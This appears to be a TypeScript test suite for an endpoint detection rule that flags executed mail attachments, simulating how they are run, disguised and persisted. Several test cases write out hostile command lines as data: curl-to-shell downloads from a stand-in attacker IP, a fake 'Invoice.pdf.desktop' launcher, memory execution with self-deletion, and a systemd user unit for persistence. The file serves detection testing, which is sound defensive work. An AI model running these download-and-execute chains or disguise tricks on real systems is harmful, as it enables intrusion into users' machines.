import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from './audit-records.test-support.ts';
import { HOUR, HostLog } from './host-log.test-support.ts';
import { saved } from './saved.test-support.ts';
import { factorsOf, firesAt, inOrder, linksHold, scanLog, valuesOf } from './stories.test-support.ts';

/** What was attached is saved, and run in every way. */

const OUT = '203.0.113.66';

for (const command of ['/usr/bin/perl', '/usr/bin/node', '/usr/bin/wine', '/usr/bin/bash', '/bin/busybox sh'])
  test(`an attachment that was never executable is run by ${command}`, async () => {
    const { log, shell, queueId } = saved('/home/clerk/Downloads/update');
    shell.run(`${command} Downloads/update`).read('Downloads/update');
    const alert = firesAt(await scanLog(log), 'AN0656', 'medium');
    linksHold(alert);
    inOrder(alert, [
      ['mail.delivered', queueId],
      ['file.created', '/home/clerk/Downloads/update.part'],
      ['content.executed', '/home/clerk/Downloads/update', 'interpreter'],
    ]);
  });

test('java -jar, the loader, env and setsid run it all the same', async () => {
  const ways: ((shell: Process) => void)[] = [
    shell => shell.run('/usr/lib/jvm/java-17-openjdk-amd64/bin/java -jar Downloads/update').read('Downloads/update'),
    shell => shell.run('/lib64/ld-linux-x86-64.so.2 Downloads/update').read('Downloads/update'),
    shell => shell.run('/usr/bin/env -S python3 Downloads/update').exec('/usr/bin/python3 Downloads/update'),
    shell => shell.run('/usr/bin/setsid bash Downloads/update').exec('/usr/bin/bash Downloads/update'),
  ];
  for (const way of ways) {
    const { log, shell } = saved('/home/clerk/Downloads/update');
    way(shell);
    firesAt(await scanLog(log), 'AN0656', 'medium');
  }
});

test('standard input counts as running: redirected, and through a pipeline', async () => {
  const redirected = saved('/home/clerk/Downloads/update');
  redirected.shell.fork().read('Downloads/update').exec('/bin/sh');
  const piped = saved('/home/clerk/Downloads/update');
  piped.shell.pipeline('/bin/cat Downloads/update', '/bin/sh')[0]?.read('Downloads/update');
  for (const { log } of [redirected, piped]) {
    const alert = firesAt(await scanLog(log), 'AN0656', 'medium');
    assert.ok(alert.steps.some(step => step.summary.includes('standard input')));
  }
});

test('a launcher is an execution, by gio and by the file manager', async () => {
  const path = '/home/clerk/Downloads/Invoice.pdf.desktop';
  const fetch = ['/bin/sh', '-c', `curl -s http://${OUT}/a | sh`];
  const byGio = saved(path);
  const gio = byGio.log.desktop('clerk').run(`/usr/bin/gio launch ${path}`).read(path);
  gio.run(fetch).run(`/usr/bin/curl -s http://${OUT}/a`).connect(OUT, 80);
  const byFiles = saved(path);
  const files = byFiles.log.desktop('clerk').run('/usr/bin/nautilus').read(path);
  const helper = '/usr/lib/x86_64-linux-gnu/glib-2.0/gio-launch-desktop';
  files
    .run([helper, ...fetch.slice(1)])
    .exec(fetch)
    .run(`/usr/bin/curl -s http://${OUT}/a`)
    .connect(OUT, 80);
  for (const { log, queueId } of [byGio, byFiles]) {
    const alert = firesAt(await scanLog(log), 'AN0656', 'high');
    inOrder(alert, [
      ['mail.delivered', queueId],
      ['content.executed', path, 'launcher'],
      ['network.connected', `${OUT}:80`],
    ]);
    assert.ok(factorsOf(alert).includes('disguised name'));
  }
});

test('an attachment that goes on from memory and deletes itself stays one story', async () => {
  const { log, shell, queueId } = saved('/home/clerk/Downloads/view');
  shell.run('/bin/chmod +x Downloads/view').chmod('Downloads/view', 0o755);
  const process = shell.run('./Downloads/view').read('/home/clerk/Downloads/view');
  process.exec('/proc/self/fd/4', { exe: '/memfd:x (deleted)' });
  process.unlink('/home/clerk/Downloads/view').connect(OUT, 443);
  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
  inOrder(alert, [
    ['mail.delivered', queueId],
    ['content.executed', '/home/clerk/Downloads/view is run as a program'],
    ['content.executed', 'memory'],
    ['network.connected', `${OUT}:443`],
  ]);
});

test('an office viewer that starts a shell, which fetches and runs a program', async () => {
  for (const pause of [20, 300]) {
    const log = new HostLog();
    const message = log.deliver();
    const path = '/tmp/mozilla_clerk0/order.odt';
    const client = log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird').read(message.path).write(path);
    const office = client.run(`/usr/lib/libreoffice/program/soffice.bin ${path}`).read(path);
    log.wait(pause * 1000);
    const shell = office.run(['/bin/sh', '-c', `curl -so /tmp/.u http://${OUT}/u; chmod +x /tmp/.u; /tmp/.u`]);
    shell.run(`/usr/bin/curl -so /tmp/.u http://${OUT}/u`).connect(OUT, 80).write('/tmp/.u');
    shell.run('/bin/chmod +x /tmp/.u').chmod('/tmp/.u', 0o755);
    shell.run('/tmp/.u').connect(OUT, 443);
    const alert = firesAt(await scanLog(log), 'AN0656', 'high');
    linksHold(alert);
    inOrder(alert, [
      ['mail.delivered', message.queueId],
      ['content.executed', 'viewer'],
      ['network.connected', `${OUT}:80`],
      ['network.connected', `${OUT}:443`],
    ]);
  }
});

test('an AppImage, and a copy of an attachment under a hidden name', async () => {
  const image = saved('/home/clerk/Downloads/Viewer.AppImage');
  image.shell.run('/bin/chmod +x Downloads/Viewer.AppImage').chmod('Downloads/Viewer.AppImage', 0o755);
  image.shell.run('./Downloads/Viewer.AppImage').exec('/tmp/.mount_ViewerX/AppRun').connect(OUT, 443);
  firesAt(await scanLog(image.log), 'AN0656', 'high');
  const copy = saved('/home/clerk/Downloads/view');
  copy.shell.run('/bin/cp Downloads/view /tmp/.x').read('Downloads/view').write('/tmp/.x');
  copy.shell.run('/bin/chmod +x /tmp/.x').chmod('/tmp/.x', 0o755);
  copy.shell.run('/tmp/.x').connect(OUT, 443);
  const alert = firesAt(await scanLog(copy.log), 'AN0656', 'high');
  assert.deepEqual(valuesOf(alert, 'file'), ['/tmp/.x']);
  assert.ok(factorsOf(alert).includes('disguised name'));
});

test('a user unit is left behind, and the network comes from its grandchild two hours later', async () => {
  const { log, shell } = saved('/home/clerk/Downloads/view');
  const process = shell.run('./Downloads/view', { by: '/bin/sh' }).read('/home/clerk/Downloads/view');
  process.write('/home/clerk/.local/share/sync/agent').write('/home/clerk/.config/systemd/user/sync.service');
  process.exit();
  log.wait(2 * HOUR);
  const agent = log.service('/home/clerk/.local/share/sync/agent', 'clerk');
  agent.run(`/usr/bin/curl http://${OUT}`).connect(OUT, 80);
  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
  inOrder(alert, [
    ['content.executed', '/home/clerk/Downloads/view'],
    ['persistence.written', 'sync.service'],
    ['content.executed', '/home/clerk/.local/share/sync/agent'],
    ['network.connected', `${OUT}:80`],
  ]);
});

test('a name borrowed from a helper excuses nothing', async () => {
  const { log, shell } = saved('/home/clerk/Downloads/clamdscan');
  shell.run('/bin/chmod +x Downloads/clamdscan').chmod('Downloads/clamdscan', 0o755);
  shell.run('./Downloads/clamdscan').connect(OUT, 443);
  firesAt(await scanLog(log), 'AN0656', 'high');
});
